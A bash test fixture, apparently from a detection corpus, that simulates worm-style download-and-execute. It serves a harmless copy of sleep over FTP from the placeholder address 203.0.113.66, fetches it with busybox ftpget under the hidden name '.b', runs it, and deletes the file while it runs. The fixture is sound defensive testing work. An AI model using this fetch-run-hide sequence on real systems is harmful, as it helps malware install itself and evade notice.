#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=busybox far=out ready=out:2121 seconds=16 parts=dns
# busybox gets a program by FTP under a hidden name, starts it, and takes its name away while it runs, as worms do.
if [ "$1" = out ]; then mkdir -p "$LAB/ftp"; cp /bin/sleep "$LAB/ftp/bot"; exec timeout 30 /usr/bin/python3 -m pyftpdlib -i 203.0.113.66 -p 2121 -d "$LAB/ftp" 2>/dev/null; fi
sleep 1; busybox ftpget -P 2121 203.0.113.66 "$LAB/.b" bot && chmod +x "$LAB/.b" || exit 1
"$LAB/.b" 6 & sleep 1; rm "$LAB/.b"; readlink "/proc/$!/exe" | grep -q deleted; said=$?; wait; sleep 2; exit $said
